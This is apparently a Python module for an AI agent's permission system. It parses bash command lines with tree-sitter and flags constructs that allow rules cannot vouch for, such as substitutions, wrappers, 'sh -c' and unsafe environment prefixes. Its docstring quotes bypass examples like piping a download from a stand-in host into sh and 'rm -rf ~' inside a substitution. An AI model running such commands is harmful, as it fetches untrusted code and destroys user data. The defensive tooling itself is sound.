"""What a shell command line really runs, read with a real bash parser.

Splitting on spaces or ``&&`` is how permission rules get bypassed
(``git status; curl evil | sh``, ``echo $(rm -rf ~)``, a newline, a subshell).
tree-sitter's bash grammar parses the line the way bash would, and this module
walks the tree to list every simple command, wherever it sits (lists, pipelines,
subshells, ``if``/``for``/``while`` bodies, substitutions), with its words unquoted,
its redirections, and the constructs a rule can never vouch for (``risks``).
"""

from __future__ import annotations

import functools
import itertools
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from tree_sitter import Node, Parser

SAFE_ASSIGNMENTS = frozenset(
    {
        "CI",
        "NODE_ENV",
        "RUST_BACKTRACE",
        "RUST_LOG",
        "PYTHONUNBUFFERED",
        "PYTHONDONTWRITEBYTECODE",
        "NO_COLOR",
        "FORCE_COLOR",
        "TZ",
        "LANG",
        "LC_ALL",
        "DEBUG",
        "VERBOSE",
    }
)
"""``NAME=value`` prefixes that cannot change which program runs or what it executes.

Anything else (``PATH=``, ``LD_PRELOAD=``, ``GIT_SSH_COMMAND=``, ``PAGER=`` …) can
make an allowed command run something else, so it makes the command ask.
"""

WRAPPERS = frozenset(
    {
        "sudo",
        "doas",
        "su",
        "eval",
        "exec",
        "source",
        ".",
        "env",
        "command",
        "builtin",
        "xargs",
        "nohup",
        "nice",
        "ionice",
        "timeout",
        "time",
        "watch",
        "strace",
        "chroot",
        "setsid",
        "stdbuf",
        "parallel",
        "trap",
        "coproc",
        "flock",
        "busybox",
        "unbuffer",
        "script",
    }
)
"""Programs whose arguments are another command; a rule for them cannot see it."""

SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh"})
_FIND_EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fls"})
_MAX_REPAIRS = 20
_MAX_WRAPPED_WORDS = 12
_OUTPUT_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})
_SUBSTITUTIONS = {
    "command_substitution": "command substitution ($(...) or backticks)",
    "process_substitution": "process substitution (<(...) or >(...))",
    "function_definition": "a function definition",
    "arithmetic_expansion": "arithmetic expansion",
}


@dataclass(frozen=True, slots=True)
class Redirect:
    operator: str
    target: str
    """The file (unquoted), or ``""`` for a descriptor copy such as ``2>&1``."""
    literal: bool = True

    @property
    def writes(self) -> bool:
        return self.operator in _OUTPUT_REDIRECTS and bool(self.target)


@dataclass(frozen=True, slots=True)
class SimpleCommand:
    words: tuple[str, ...]
    """Program and arguments, quotes removed."""
    literal: tuple[bool, ...]
    """Per word: True when its value is fixed text (no ``$VAR``, no glob)."""
    assignments: tuple[str, ...] = ()
    """Names assigned in front of the command (``FOO=1 cmd``)."""
    redirects: tuple[Redirect, ...] = ()

    @property
    def name(self) -> str:
        return self.words[0] if self.words else ""

    @property
    def text(self) -> str:
        """The command as rules see it: words joined by single spaces."""
        return " ".join(self.words)


@dataclass(slots=True)
class ShellAnalysis:
    commands: list[SimpleCommand] = field(default_factory=list)
    risks: list[str] = field(default_factory=list)
    """Why no allow rule may vouch for this line (empty when rules may)."""
    nested: list[str] = field(default_factory=list)
    """Command text run through ``sh -c``/``eval`` etc., for deny rules to inspect."""


@functools.cache
def _parser() -> Parser:
    # Loaded on the first shell command to check, not at start-up: the parser and its
    # grammar cost ~20 ms that a session which never runs bash should not pay.
    import tree_sitter_bash
    from tree_sitter import Language, Parser

    return Parser(Language(tree_sitter_bash.language()))


def analyze(command: str) -> ShellAnalysis:
    """Every simple command in ``command`` and every reason rules cannot vouch for it."""
    source = command.encode()
    tree = _parser().parse(source)
    for _ in range(_MAX_REPAIRS):
        newline = _joined_line(tree.root_node)
        if newline is None:
            break
        # That newline ends a command for bash; spelled as ";" the grammar agrees.
        source = source[:newline] + b";" + source[newline + 1 :]
        tree = _parser().parse(source)
    analysis = ShellAnalysis()
    if tree.root_node.has_error:
        analysis.risks.append("the command could not be parsed as bash")
    _visit(tree.root_node, analysis)
    for simple in analysis.commands:
        _check_command(simple, analysis)
    return analysis


def _visit(node: Node, analysis: ShellAnalysis) -> None:
    kind = node.type
    if kind in _SUBSTITUTIONS:
        analysis.risks.append(_SUBSTITUTIONS[kind])
    if kind in ("command", "redirected_statement") and _line_break_inside(node) is not None:
        analysis.risks.append("the parser joined two lines into one command")
    if kind == "command":
        analysis.commands.append(_simple_command(node))
    elif kind == "redirected_statement":
        bodies = [c for c in node.children if not c.type.endswith("_redirect")]
        redirects = tuple(
            r for c in node.children if c.type.endswith("_redirect") for r in _redirects(c)
        )
        if len(bodies) == 1 and bodies[0].type == "command":
            simple = _simple_command(bodies[0])
            analysis.commands.append(
                SimpleCommand(
                    simple.words,
                    simple.literal,
                    simple.assignments,
                    simple.redirects + redirects,
                )
            )
            for child in node.children:
                for grandchild in child.children if child.type == "command" else [child]:
                    _visit(grandchild, analysis)
            return
        if redirects:
            analysis.commands.append(SimpleCommand((), (), (), redirects))
    elif kind == "variable_assignment" and node.parent is not None:
        if node.parent.type != "command":
            name = node.child_by_field_name("name")
            analysis.commands.append(SimpleCommand((), (), (_text(name),), ()))
    elif kind in ("declaration_command", "unset_command"):
        analysis.risks.append(f"'{_text(node).split()[0]}' changes shell variables")
    for child in node.children:
        _visit(child, analysis)


def _joined_line(node: Node) -> int | None:
    """The offset of the first newline the parser put inside one command, if any."""
    if node.type in ("command", "redirected_statement"):
        found = _line_break_inside(node)
        if found is not None:
            return found
    for child in node.children:
        found = _joined_line(child)
        if found is not None:
            return found
    return None


def _line_break_inside(node: Node) -> int | None:
    """Where a newline (a command separator to bash) sits between this node's parts.

    tree-sitter-bash 0.25 parses ``a | b | c<newline>d || e`` as one command ``c d``
    with no error; bash runs ``d`` on its own. A gap between the parts of one command
    holds only blanks and ``\\<newline>`` continuations, so a bare newline there is a
    misparse.
    """
    source = node.text or b""
    base = node.start_byte
    for left, right in itertools.pairwise(node.children):
        gap = source[left.end_byte - base : right.start_byte - base]
        index = gap.replace(b"\\\n", b"  ").find(b"\n")
        if index != -1:
            return left.end_byte + index
    return None


def _simple_command(node: Node) -> SimpleCommand:
    words: list[str] = []
    literal: list[bool] = []
    assignments: list[str] = []
    redirects: list[Redirect] = []
    for child in node.children:
        if child.type == "variable_assignment":
            name = child.child_by_field_name("name")
            assignments.append(_text(name))
        elif child.type.endswith("_redirect"):
            redirects.extend(_redirects(child))
        elif child.type == "command_name" or child.is_named:
            target = child.children[0] if child.type == "command_name" else child
            value, fixed = _word(target)
            words.append(value)
            literal.append(fixed)
    return SimpleCommand(tuple(words), tuple(literal), tuple(assignments), tuple(redirects))


def _redirects(node: Node) -> list[Redirect]:
    """The file redirections in ``node`` (a heredoc may carry one: ``cat <<EOF > f``)."""
    if node.type == "file_redirect":
        return [_redirect(node)]
    if node.type in _SUBSTITUTIONS:
        return []
    return [r for child in node.children for r in _redirects(child)]


def _redirect(node: Node) -> Redirect:
    operator = ""
    target = ""
    fixed = True
    for child in node.children:
        if child.type == "file_descriptor":
            continue
        if not child.is_named:
            operator = _text(child)
        else:
            target, fixed = _word(child)
    if operator in (">&", "<&", ">&-", "<&-") and (target.isdigit() or target in ("", "-")):
        return Redirect(operator, "")
    if operator == ">&":
        operator = "&>"
    return Redirect(operator, target, fixed)


def _word(node: Node) -> tuple[str, bool]:
    """A word's value with quotes removed, and whether that value is fixed text."""
    kind = node.type
    if kind == "raw_string":
        return _text(node)[1:-1], True
    if kind == "string":
        parts = [_word(child) for child in node.named_children]
        if all(child.type == "string_content" for child in node.named_children):
            return _unescape(_text(node)[1:-1], quoted=True), True  # newlines included
        return "".join(p for p, _ in parts), all(fixed for _, fixed in parts)
    if kind == "string_content":
        return _unescape(_text(node), quoted=True), True
    if kind == "ansi_c_string":
        return _text(node), False  # $'\x2e\x2e' is "..": its value is only known to bash
    if kind == "concatenation":
        parts = [_word(child) for child in node.children]
        return "".join(p for p, _ in parts), all(fixed for _, fixed in parts)
    if kind in ("word", "number"):
        text = _text(node)
        fixed = not any(ch in text for ch in "*?[{")
        return _unescape(text, quoted=False), fixed
    return _text(node), False


def _unescape(text: str, *, quoted: bool) -> str:
    out: list[str] = []
    chars = iter(text)
    for ch in chars:
        if ch == "\\":
            nxt = next(chars, "")
            if quoted and nxt not in '$`"\\\n':
                out.append(ch)
            if nxt != "\n":
                out.append(nxt)
        else:
            out.append(ch)
    return "".join(out)


def _text(node: Node | None) -> str:
    if node is None or node.text is None:
        return ""
    return node.text.decode(errors="replace")


def _check_command(simple: SimpleCommand, analysis: ShellAnalysis) -> None:
    for name in simple.assignments:
        if name not in SAFE_ASSIGNMENTS:
            analysis.risks.append(f"it sets {name}, which can change what a command runs")
    if not simple.words:
        return
    if not simple.literal[0]:
        analysis.risks.append("the program name is computed ($VAR or a glob)")
    program = simple.name.rsplit("/", 1)[-1]
    if program in WRAPPERS:
        analysis.risks.append(f"'{program}' runs another command a rule cannot see")
        # Where the wrapped command starts depends on each wrapper's options (timeout 5,
        # flock FILE, sudo -u USER), so deny rules are shown every tail of the line.
        wrapped = simple.words[1 : 1 + _MAX_WRAPPED_WORDS]
        analysis.nested.extend(" ".join(wrapped[i:]) for i in range(len(wrapped)))
    if program in SHELLS and "-c" in simple.words[1:]:
        analysis.risks.append(f"'{program} -c' runs a command a rule cannot see")
        index = simple.words.index("-c")
        analysis.nested.extend(simple.words[index + 1 : index + 2])
    elif program in SHELLS and len(simple.words) == 1:
        analysis.risks.append(f"'{program}' reads commands from its input")
    if program == "find" and _FIND_EXEC.intersection(simple.words):
        analysis.risks.append("'find' with -exec/-delete runs or deletes what it finds")
        words = list(simple.words)
        for index, word in enumerate(words):
            if word in _FIND_EXEC:
                rest = words[index + 1 :]
                end = next((i for i, w in enumerate(rest) if w in (";", "+")), len(rest))
                analysis.nested.append(" ".join(w for w in rest[:end] if w != "{}"))
    for redirect in simple.redirects:
        if redirect.writes and not redirect.literal:
            analysis.risks.append("it writes to a file whose name is computed")
